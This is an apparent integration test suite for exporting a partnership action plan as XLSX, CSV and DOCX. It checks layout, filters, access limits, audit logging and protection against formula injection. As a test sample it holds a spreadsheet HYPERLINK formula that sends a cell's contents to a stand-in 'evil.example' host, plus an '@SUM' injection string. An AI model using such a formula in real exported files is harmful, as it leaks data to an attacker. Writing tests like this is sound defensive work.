import { Readable } from 'node:stream';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import {
  binary,
  givenDecidedReview,
  givenPartnership,
  signIn,
  startTestApi,
  TestApi,
  TestPartnership,
  VICTIM_AND_PERPETRATOR,
} from '../support';

type Body = Record<string, unknown>;

const COLUMNS = [
  'Ref',
  'Recommendation',
  'Lead agency',
  'Lead officer',
  'Actions',
  'Milestones',
  'Target date',
  'Progress',
  'RAG',
  'Date of update',
];

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

async function xlsxRows(content: Buffer): Promise<{ values: string[][]; cells: ExcelJS.Cell[] }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(content as unknown as ExcelJS.Buffer);
  return rowsOf(workbook);
}

async function csvRows(content: Buffer): Promise<{ values: string[][]; cells: ExcelJS.Cell[] }> {
  expect([...content.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const workbook = new ExcelJS.Workbook();
  // read every cell as the text written, with no guessing of numbers or dates
  await workbook.csv.read(Readable.from(content.subarray(3)), { map: (value: unknown) => value });
  return rowsOf(workbook);
}

function rowsOf(workbook: ExcelJS.Workbook): { values: string[][]; cells: ExcelJS.Cell[] } {
  const sheet = workbook.worksheets[0]!;
  const values: string[][] = [];
  const cells: ExcelJS.Cell[] = [];
  sheet.eachRow((row) => {
    const texts: string[] = [];
    for (let column = 1; column <= COLUMNS.length; column++) {
      const cell = row.getCell(column);
      cells.push(cell);
      const value = cell.value;
      texts.push(
        value instanceof Date
          ? value.toISOString().slice(0, 10).split('-').reverse().join('/')
          : value === null || value === undefined
            ? ''
            : String(value as string),
      );
    }
    values.push(texts);
  });
  return { values, cells };
}

/** One file of a zip (a DOCX), found through the central directory. */
function unzipEntry(zip: Buffer, name: string): string {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let at = zip.readUInt32LE(end + 16);
  const count = zip.readUInt16LE(end + 10);
  for (let i = 0; i < count; i++) {
    const method = zip.readUInt16LE(at + 10);
    const size = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const extraLength = zip.readUInt16LE(at + 30);
    const commentLength = zip.readUInt16LE(at + 32);
    const local = zip.readUInt32LE(at + 42);
    const entryName = zip.toString('utf8', at + 46, at + 46 + nameLength);
    if (entryName === name) {
      const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
      const data = zip.subarray(start, start + size);
      return (method === 0 ? data : inflateRawSync(data)).toString('utf8');
    }
    at += 46 + nameLength + extraLength + commentLength;
  }
  throw new Error(`${name} is not in the zip`);
}

/**
 * The action plan exported as XLSX, CSV and DOCX in the layout partnerships already use, with the list's
 * filters and reach (a lead officer gets their agency's actions only), formula injection neutralised, audited.
 */
describe('Action plan export', () => {
  let api: TestApi;
  let a: TestPartnership;
  let b: TestPartnership;
  const as: Record<string, string> = {};
  let reviewReference: string;

  const send = (who: string, method: 'get' | 'post' | 'put', path: string, body?: Body, version?: number) => {
    const request = api.http[method](`/api/v1${path}`).set('authorization', as[who]!);
    if (version !== undefined) request.set('if-match', `"${version}"`);
    return body === undefined ? request : request.send(body);
  };
  const exportAs = (who: string, query: string) =>
    binary(api.http.get(`/api/v1/action-plan/export?${query}`).set('authorization', as[who]!));

  beforeAll(async () => {
    api = await startTestApi();
    a = await givenPartnership(api, 'Export');
    b = await givenPartnership(api, 'Export elsewhere');
    for (const [who, email] of Object.entries({
      coordinator: a.coordinator.email,
      cspChair: a.cspChair.email,
      healthLead: a.leadOfficer.email,
      otherCoordinator: b.coordinator.email,
    })) {
      as[who] = (await signIn(api.http, email)).authorization;
    }
    const review = await givenDecidedReview(api, as['coordinator']!, { subjects: VICTIM_AND_PERPETRATOR });
    reviewReference = review.reference;
    const recommendation = await send('coordinator', 'post', `/reviews/${review.id}/recommendations`, {
      reference: '1',
      level: 'panel',
      text: 'Ask about domestic abuse at every attendance with an injury.',
      scope: 'local',
      leadAgencyId: a.agencies.health,
      targetDate: '2027-03-31',
    }).expect(201);

    const plan: [string, Body, { rag: string; narrative: string } | null][] = [
      [
        '1.10',
        {
          description: 'Update the ED triage template.',
          leadAgencyId: a.agencies.health,
          leadOfficerUserId: a.leadOfficer.id,
          targetDate: '2027-03-31',
          recommendationIds: [recommendation.body.id],
          milestones: [
            { description: 'Template drafted', dueOn: '2026-10-01', done: true },
            { description: 'Template live', dueOn: '2027-01-31', done: false },
          ],
        },
        { rag: 'amber', narrative: HYPERLINK },
      ],
      [
        '1.2',
        {
          description: '+44 20 7946 0000 is the helpline to publicise.',
          leadAgencyId: a.agencies.health,
          leadOfficerName: 'Named Nurse',
          targetToBeAgreed: true,
          recommendationIds: [recommendation.body.id],
          milestones: [],
        },
        { rag: 'green', narrative: '-2 weeks behind, now caught up.' },
      ],
      [
        '2.1',
        {
          description: 'Train officers in DASH.',
          leadAgencyId: a.agencies.police,
          targetDate: '2026-06-30',
          recommendationIds: [],
          milestones: [],
        },
        { rag: 'green', narrative: '@SUM(A1:A2)' },
      ],
    ];
    for (const [reference, body, update] of plan) {
      const created = await send('coordinator', 'post', '/actions', { reference, ...body }).expect(201);
      if (update) {
        await send(
          'coordinator',
          'post',
          `/actions/${created.body.id}/progress-updates`,
          { reportedOn: '2026-11-02', ...update },
          created.body.version,
        ).expect(200);
      }
    }
    // an action of the other partnership, never exported with ours
    await send('otherCoordinator', 'post', '/actions', {
      reference: '9.9',
      description: 'Elsewhere.',
      leadAgencyId: b.agencies.police,
      targetDate: '2027-01-31',
      recommendationIds: [],
      milestones: [],
    }).expect(201);
  });
  afterAll(() => api.close());

  it('exports XLSX in the partnership layout, in reference order, with no cell a formula', async () => {
    const response = await exportAs('coordinator', 'format=xlsx').expect(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="action-plan-\d{4}-\d{2}-\d{2}\.xlsx"$/,
    );
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    const { values, cells } = await xlsxRows(response.body as Buffer);
    expect(values[0]).toEqual(COLUMNS);
    expect(values.slice(1)).toEqual([
      [
        '1.2',
        `${reviewReference} 1: Ask about domestic abuse at every attendance with an injury.`,
        expect.stringContaining('Health'),
        'Named Nurse',
        '+44 20 7946 0000 is the helpline to publicise.',
        '',
        'To be agreed',
        '-2 weeks behind, now caught up.',
        'Light green',
        '02/11/2026',
      ],
      [
        '1.10',
        `${reviewReference} 1: Ask about domestic abuse at every attendance with an injury.`,
        expect.stringContaining('Health'),
        expect.any(String),
        'Update the ED triage template.',
        '01/10/2026: Template drafted (done)\n31/01/2027: Template live',
        '31/03/2027',
        HYPERLINK,
        'Amber',
        '02/11/2026',
      ],
      [
        '2.1',
        '',
        expect.stringContaining('Police'),
        '',
        'Train officers in DASH.',
        '',
        '30/06/2026',
        '@SUM(A1:A2)',
        'Red',
        '02/11/2026',
      ],
    ]);
    expect(values[2]![3]).not.toBe('');
    // the dangerous texts are plain strings, never formulas; the dates are date cells, to sort and filter by
    for (const cell of cells) {
      expect(cell.formula).toBeUndefined();
      // exceljs types a cell's row and column as strings; they are numbers
      const [row, column] = [Number(cell.row), Number(cell.col)];
      const dated = row > 1 && (column === 7 || column === 10) && cell.value !== 'To be agreed';
      const expected = dated ? [ExcelJS.ValueType.Date] : [ExcelJS.ValueType.String, ExcelJS.ValueType.Null];
      expect(expected).toContain(cell.type);
    }
    // the RAG cells are coloured as partnerships colour them
    const fills = cells
      .filter((cell) => Number(cell.col) === 9 && Number(cell.row) > 1)
      .map((cell) => [cell.value, (cell.fill as ExcelJS.FillPattern).fgColor?.argb]);
    expect(fills).toEqual([
      ['Light green', 'FF92D050'],
      ['Amber', 'FFFFBF47'],
      ['Red', 'FFD4351C'],
    ]);
  });

  it('exports CSV with a leading apostrophe on every text a spreadsheet would run', async () => {
    const response = await exportAs('cspChair', 'format=csv').expect(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="action-plan-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const { values } = await csvRows(response.body as Buffer);
    expect(values[0]).toEqual(COLUMNS);
    expect(values.map((row) => row[0])).toEqual(['Ref', '1.2', '1.10', '2.1']);
    expect(values[1]![4]).toBe("'+44 20 7946 0000 is the helpline to publicise.");
    expect(values[1]![7]).toBe("'-2 weeks behind, now caught up.");
    expect(values[2]![7]).toBe(`'${HYPERLINK}`);
    expect(values[3]![7]).toBe("'@SUM(A1:A2)");
    expect(values[2]![5]).toBe('01/10/2026: Template drafted (done)\n31/01/2027: Template live');
    for (const row of values) {
      for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('exports DOCX, a zip holding the plan as a table', async () => {
    const response = await exportAs('coordinator', 'format=docx').expect(200);
    const content = response.body as Buffer;
    expect(content.subarray(0, 2).toString('latin1')).toBe('PK');
    const document = unzipEntry(content, 'word/document.xml');
    expect(document).toContain('w:orient="landscape"');
    expect(document).toContain('<w:tbl>');
    expect(document).toContain('1.10');
    expect(document).toContain(reviewReference);
    expect(document).toContain('Update the ED triage template.');
  });

  it('applies the list’s filters and gives a lead officer only their agency’s actions', async () => {
    const police = await exportAs('coordinator', `format=xlsx&agencyId=${a.agencies.police}`).expect(200);
    expect((await xlsxRows(police.body as Buffer)).values.map((row) => row[0])).toEqual(['Ref', '2.1']);
    const red = await exportAs('coordinator', 'format=csv&rag=red').expect(200);
    expect((await csvRows(red.body as Buffer)).values.map((row) => row[0])).toEqual(['Ref', '2.1']);

    const mine = await exportAs('healthLead', 'format=xlsx').expect(200);
    expect((await xlsxRows(mine.body as Buffer)).values.map((row) => row[0])).toEqual(['Ref', '1.2', '1.10']);
    const notMine = await exportAs('healthLead', `format=csv&agencyId=${a.agencies.police}`).expect(200);
    expect((await csvRows(notMine.body as Buffer)).values).toEqual([COLUMNS]);

    const elsewhere = await exportAs('otherCoordinator', 'format=xlsx').expect(200);
    expect((await xlsxRows(elsewhere.body as Buffer)).values.map((row) => row[0])).toEqual(['Ref', '9.9']);
  });

  it('refuses an unknown format and records each export in the audit trail', async () => {
    await exportAs('coordinator', 'format=pdf').expect(400);
    await exportAs('coordinator', 'agencyId=nope&format=csv').expect(400);
    const audit = await send('coordinator', 'get', `/audit?action=action-plan.exported`).expect(200);
    const events = audit.body.items as Body[];
    expect(events.length).toBeGreaterThanOrEqual(4);
    expect(events).toContainEqual(
      expect.objectContaining({
        action: 'action-plan.exported',
        entityType: 'action-plan',
        entityId: a.id,
        after: expect.objectContaining({ format: 'xlsx', rows: 3 }),
      }),
    );
    expect(events.every((event) => event['entityId'] === a.id)).toBe(true);
  });
});
